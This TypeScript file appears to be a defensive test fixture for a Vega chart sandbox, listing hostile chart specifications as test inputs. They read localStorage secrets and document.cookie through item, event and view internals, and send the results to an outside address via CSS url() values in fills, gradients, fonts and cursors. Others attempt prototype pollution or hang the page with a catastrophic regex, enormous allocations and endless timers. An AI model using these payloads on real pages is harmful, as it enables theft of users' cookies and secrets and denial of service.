/** Vega specifications that want something of the page: what lies in it, a request of its, its time, its prototypes. */
export interface Hostile {
  name: string;
  /** Whether it goes on for ever, or nearly so. */
  holds?: boolean;
  spec: Record<string, unknown>;
}

/** What lies in the page: in its storage, its cookies and a field. */
export const SECRET = 'kept-by-the-page';

const READ = {
  storage: 'ownerDocument.defaultView.localStorage.secret',
  cookie: 'ownerDocument.cookie',
};

/** Something that fills the view, and changes now and then. */
const filled = (channels: object, more: object = {}) => ({
  type: 'rect',
  encode: {
    update: { x: { value: 0 }, y: { value: 0 }, width: { value: 200 }, height: { value: 100 }, ...channels },
  },
  ...more,
});
const told = (signal: string, more: object = {}) => ({
  type: 'text',
  encode: { update: { x: { value: 0 }, y: { value: 20 }, text: { signal } } },
  ...more,
});
const ticking = {
  name: 'tick',
  value: 0,
  on: [{ events: { type: 'timer', throttle: 100 }, update: 'tick + 1' }],
};
const on = (events: string, update: string, name = 'got') => ({ name, value: '', on: [{ events, update }] });
const rows = (stop: number, ...transform: object[]) => ({
  name: 'many',
  transform: [{ type: 'sequence', start: 0, stop }, ...transform],
});

/** All of them. @param outside an address that only they ask for */
export function hostileSpecs(outside: string): Hostile[] {
  const address = (what = "''") => `'url("${outside}?' + ${what} + '#a")'`;
  const literal = `url("${outside}#a")`;
  const pointed = (what: string) => ({
    signals: [on('pointermove, pointerdown, click', what)],
    marks: [filled({ fill: { signal: address('got') } }), told('got')],
  });
  const looked = (what: string, more: object = {}) => ({
    signals: [ticking],
    marks: [
      filled({ fill: { signal: `tick >= 0 ? [${address(what)}] : 'red'` } }),
      told(`tick >= 0 ? ${what} : ''`),
    ],
    ...more,
  });
  const painted = (channels: object, more: object = {}) => ({ marks: [filled(channels)], ...more });
  const reading: Record<string, object> = {
    'the element of an item': looked(`(item._svg ? item._svg.${READ.storage} : '')`),
    'the element of a group': looked(`(item.mark.group._svg ? item.mark.group._svg.${READ.cookie} : '')`),
    'the view of an item': looked(
      `(item.mark.group.context ? item.mark.group.context.dataflow._el.${READ.storage} : '')`,
    ),
    'a property by a computed name': looked(
      `(item['_s' + 'vg'] ? item['_s' + 'vg']['owner' + 'Document'].cookie : '')`,
    ),
    'the window of an event': pointed('event.view ? event.view.localStorage.secret : 1'),
    'the document of an event': pointed('event.view ? event.view.document.cookie : 1'),
    'the target of an event': pointed(`event.target ? event.target.${READ.storage} : 1`),
    'the element of what is pointed at': pointed(
      `event.item && event.item._svg ? event.item._svg.${READ.cookie} : 1`,
    ),
    'the view of an event': pointed(`event.dataflow ? event.dataflow._el.${READ.storage} : 1`),
    'the group of an event': pointed(`group().context ? group().context.dataflow._el.${READ.cookie} : 1`),
    'an item in a signal': {
      signals: [
        on('pointermove', 'item()', 'held'),
        on('pointermove', `held && held._svg ? held._svg.${READ.storage} : 1`),
      ],
      marks: [filled({ fill: { signal: address('got') } }), told('got')],
    },
    'a field of an item': {
      marks: [
        filled({ fill: { value: 'red' } }, { name: 'first' }),
        {
          type: 'text',
          from: { data: 'first' },
          encode: { update: { text: { field: `_svg.${READ.storage}` } } },
        },
      ],
    },
    'a transform of items': {
      marks: [
        filled(
          { fill: { value: 'red' } },
          {
            transform: [
              {
                type: 'formula',
                as: 'fill',
                expr: `[${address(`(datum._svg ? datum._svg.${READ.cookie} : 1)`)}]`,
              },
            ],
          },
        ),
      ],
    },
    'a copy of an item': pointed(`merge(item())._svg ? merge(item())._svg.${READ.storage} : 1`),
    'a pluck of items': pointed(`pluck([item()], '_svg.${READ.storage}')[0]`),
    'a constructor': looked(`('' + datum['con' + 'structor'])`),
    'the keys of the page': pointed('1'),
  };
  const sending: Record<string, object> = {
    'a fill': painted({ fill: { value: literal } }),
    'a stroke in a list': painted({ stroke: { signal: `[${address()}]` }, strokeWidth: { value: 9 } }),
    'a colour of a gradient': painted({
      fill: {
        value: {
          gradient: 'linear',
          stops: [
            { offset: 0, color: literal },
            { offset: 1, color: 'red' },
          ],
        },
      },
    }),
    'the name of a gradient': painted({
      fill: {
        value: { gradient: 'linear', id: `x) ${literal}, url(y`, stops: [{ offset: 0, color: 'red' }] },
      },
    }),
    'a picture that is made': {
      marks: [
        {
          ...filled({ image: { signal: `{src: '${outside}', complete: true, width: 9, height: 9}` } }),
          type: 'image',
        },
      ],
    },
    'an address by a transform': {
      marks: [
        {
          ...filled({}),
          type: 'image',
          transform: [{ type: 'formula', as: 'url', expr: `'${outside}'` }],
        },
      ],
    },
    'a link by a transform': painted(
      { fill: { value: 'red' }, cursor: { value: 'pointer' } },
      {
        marks: [
          filled(
            { fill: { value: 'red' } },
            { transform: [{ type: 'formula', as: 'href', expr: `'${outside}'` }] },
          ),
        ],
      },
    ),
    'a font': {
      marks: [
        told("'words'", {
          encode: { update: { text: { value: 'words' }, font: { value: `x; background: ${literal}` } } },
        }),
      ],
    },
    'the pointer': painted({ fill: { value: 'red' }, cursor: { signal: `${address()} + ', pointer'` } }),
    'the pointer of the view': {
      signals: [{ name: 'cursor', value: `${literal}, pointer` }],
      marks: [filled({ fill: { value: 'red' } })],
    },
    'the ground': { background: literal, marks: [] },
    'how it is blended': painted({ fill: { value: 'red' }, blend: { value: literal } }),
    'a dash': painted({ stroke: { value: 'red' }, strokeDash: { value: [literal] } }),
    'colours of a scale': {
      scales: [{ name: 'c', type: 'ordinal', domain: ['a', 'b'], range: [literal, [literal]] }],
      legends: [{ fill: 'c', title: 'c' }],
      marks: [filled({ fill: { scale: 'c', value: 'a' } })],
    },
    'an axis': {
      scales: [{ name: 'x', domain: [0, 1], range: 'width' }],
      axes: [
        {
          orient: 'bottom',
          scale: 'x',
          labelColor: literal,
          domainColor: literal,
          labelFont: literal,
          title: 'x',
          titleColor: literal,
        },
      ],
      marks: [],
    },
    'a configuration': {
      config: {
        style: { cell: { stroke: literal } },
        text: { fill: literal, font: literal },
        title: { color: literal },
      },
      title: { text: 'words', color: literal },
      marks: [told("'words'")],
    },
  };
  const poisoning: Record<string, object> = {
    'rows grouped by a prototype': {
      data: [
        {
          name: 'own',
          values: [{ k: '__proto__' }, { k: 'constructor' }],
          transform: [{ type: 'aggregate', groupby: ['k'], ops: ['count'], as: ['polluted'] }],
        },
      ],
      marks: [],
    },
    'fields of a prototype': {
      data: [
        {
          name: 'own',
          values: [{ k: 1 }],
          transform: [{ type: 'formula', as: '__proto__', expr: '{polluted: 1}' }],
        },
      ],
      marks: [filled({ __proto__: null, constructor: { value: 1 }, fill: { value: 'red' } })],
    },
    'names of a prototype': {
      signals: [
        { name: 'constructor', value: 1 },
        { name: 'hasOwnProperty', value: 1 },
      ],
      data: [{ name: 'toString', values: [1] }],
      marks: [told("'words'", { name: 'constructor' })],
    },
  };
  const holding: Record<string, object> = {
    'an expression of texts': {
      signals: [{ name: 'a', update: `test(regexp('^(a+)+$'), '${'a'.repeat(40)}!')` }],
    },
    'rows by rows': { data: [rows(20_000, { type: 'cross' })] },
    'a long text': { signals: [{ name: 'a', update: "length(pad('x', 1e9, 'y', 'left'))" }] },
    'a wide number': { signals: [{ name: 'a', update: "length(format(1, '>999999999'))" }] },
    forces: {
      data: [rows(5000)],
      marks: [
        {
          type: 'symbol',
          from: { data: 'many' },
          transform: [{ type: 'force', static: true, iterations: 100_000, forces: [{ force: 'nbody' }] }],
        },
      ],
    },
    'many ticks': {
      scales: [{ name: 'x', domain: [0, 1], range: 'width' }],
      axes: [{ orient: 'bottom', scale: 'x', tickCount: 1e9 }],
    },
    'many marks': { data: [rows(900_000)], marks: [{ type: 'symbol', from: { data: 'many' } }] },
    'a list in each row': { data: [rows(900_000, { type: 'formula', as: 'a', expr: 'sequence(900000)' })] },
    'a wide picture': { width: 1e9, height: 1e9, marks: [filled({ fill: { value: 'red' } })] },
    'fine dashes': {
      marks: [
        {
          type: 'rule',
          encode: {
            update: { x2: { value: 1e9 }, stroke: { value: 'red' }, strokeDash: { value: [1e-6, 1e-6] } },
          },
        },
      ],
    },
    'a long path': {
      signals: [{ name: 'long', update: "join(sequence(200000), ' L 9,')" }],
      marks: [
        { type: 'path', encode: { update: { path: { signal: "'M 1,' + long" }, stroke: { value: 'red' } } } },
      ],
    },
    'itself, again and again': {
      signals: [
        { name: 'a', value: 0, on: [{ events: { type: 'timer', throttle: 1 }, update: 'a + 1' }] },
        { name: 'b', on: [{ events: { signal: 'a' }, update: "modify('d', {a: a})" }] },
      ],
      data: [{ name: 'd', values: [] }],
      marks: [{ type: 'symbol', from: { data: 'd' }, encode: { update: { x: { field: 'a' } } } }],
    },
  };
  const named = (what: string, specs: Record<string, object>, holds = false): Hostile[] =>
    Object.entries(specs).map(([name, spec]) => ({
      name: `${what} ${name}`,
      ...(holds && { holds }),
      spec: { width: 200, height: 100, marks: [], ...spec },
    }));
  return [
    ...named('reads', reading),
    ...named('sends by', sending),
    ...named('poisons', poisoning),
    ...named('is held by', holding, true),
  ];
}
